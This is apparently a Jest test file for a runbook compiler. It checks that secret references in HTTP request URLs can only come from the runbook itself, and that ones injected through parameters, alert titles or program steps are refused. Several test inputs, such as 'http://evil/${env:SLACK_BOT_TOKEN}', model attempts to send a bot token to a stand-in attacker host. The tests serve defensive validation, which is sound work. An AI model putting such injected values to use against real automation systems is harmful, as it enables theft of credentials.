import { describe, expect, test } from '@jest/globals';
import { BUILT_IN_ACTIONS } from '../../../../src/engine/actions/actions.js';
import { InvalidInput } from '../../../../src/engine/model/errors.js';
import { compileRunbook } from '../../../../src/engine/planner/compile.js';
import { parseRunbook } from '../../../../src/engine/planner/load-runbooks.js';
import { sentCalls } from '../../../../src/engine/planner/sent-steps.js';
import { aService, NO_SNAPSHOTS, ONE_BACKUP } from '../../../support/builders.js';

const web = aService('web');
const send = (url: string) => `steps: [{ id: send, action: http_request, with: { url: "${url}" } }]`;
const inner = parseRunbook(
  `{ id: inner, params: { to: { default: "http://127.0.0.1/\${env:INNER}" } }, ${send('{{ params.to }}')} }`,
  'inner.yaml',
);

function compiled(text: string, params = {}, incident = {}) {
  return compileRunbook(parseRunbook(text, 'outer.yaml'), {
    actions: BUILT_IN_ACTIONS,
    backups: ONE_BACKUP,
    snapshots: NO_SNAPSHOTS,
    pools: ['default'],
    service: web,
    services: [web],
    runbooks: [inner],
    params,
    incident: { title: '', severity: 0, ...incident },
  });
}
const refusal = (work: Promise<unknown>) =>
  work.then(
    () => Promise.reject(new Error('it was not refused')),
    (error: unknown) => (error instanceof InvalidInput ? error.message : Promise.reject(error)),
  );

describe('a runbook', () => {
  test('names secrets, which stay names in the plan', async () => {
    const { steps } = await compiled(`{ id: outer, ${send('https://app:${file:/run/a}@host/x?k=${env:B}')} }`);
    expect(steps[0]?.input.url).toBe('https://app:${file:/run/a}@host/x?k=${env:B}');
    expect(steps[0]?.name).toBe('GET https://host/x');
    expect((await compiled(`{ id: outer, ${send('env:URL')} }`)).steps[0]?.name).toBe('GET env:URL');
  });

  test('hands them on by defaults of its parameters, and to runbooks within it', async () => {
    const own = `{ id: outer, params: { to: { default: "env:URL" } }, ${send('{{ params.to }}')} }`;
    expect((await compiled(own)).steps[0]?.input.url).toBe('env:URL');
    expect((await compiled(own, { to: 'env:URL' })).steps[0]?.input.url).toBe('env:URL');
    const within = '{ id: outer, steps: [{ action: sub_runbook, with: { runbook: inner } }] }';
    expect((await compiled(within)).steps[0]?.input.url).toBe('http://127.0.0.1/${env:INNER}');
    const handed = `{ id: outer, steps: [{ action: sub_runbook, with: { runbook: inner, params: { to: "env:URL" } } }] }`;
    expect((await compiled(handed)).steps[0]?.input.url).toBe('env:URL');
  });

  test.each(['not a URL', 'ftp://${env:A}@host/', '${env:A}host'])('may not have %s as a URL', async (url) => {
    expect(await refusal(compiled(`{ id: outer, ${send(url)} }`))).toContain('an http:// or https:// URL');
  });
});

const given = `{ id: outer, params: { to: { default: "http://127.0.0.1/" } }, ${send('{{ params.to }}')} }`;

test('a parameter that somebody gives names none', async () => {
  for (const to of ['env:SLACK_BOT_TOKEN', 'http://evil/${env:SLACK_BOT_TOKEN}', 'vault:secret/data/a#b'])
    expect(await refusal(compiled(given, { to }))).toContain('only a runbook itself names secrets');
});

test('a word of an alert names none', async () => {
  const text = `{ id: outer, ${send('{{ incident.title }}')} }`;
  for (const title of ['env:SLACK_BOT_TOKEN', 'http://evil/${env:SLACK_BOT_TOKEN}'])
    expect(await refusal(compiled(text, {}, { title }))).toContain('stands whole in the runbook');
  const within = `{ id: outer, steps: [{ action: sub_runbook, with: { runbook: inner, params: { to: "{{ incident.title }}" } } }] }`;
  expect(await refusal(compiled(within, {}, { title: 'env:SLACK_BOT_TOKEN' }))).toContain(
    'stands whole in the runbook',
  );
});

test('a name that is put together from pieces is none', async () => {
  const text = `{ id: outer, params: { of: {} }, ${send('http://127.0.0.1/${env:{{ params.of }}}')} }`;
  expect(await refusal(compiled(text, { of: 'SLACK_BOT_TOKEN' }))).toContain('stands whole in the runbook');
});

test('a step that a program sends names none', () => {
  const ports = { actions: BUILT_IN_ACTIONS, stepAliases: new Map(), backups: ONE_BACKUP, services: () => [web] };
  for (const url of ['env:SLACK_BOT_TOKEN', 'http://evil/${env:SLACK_BOT_TOKEN}'])
    expect(() => sentCalls([`http_request: ${url}`], undefined, ports)).toThrow('which only a runbook names');
});
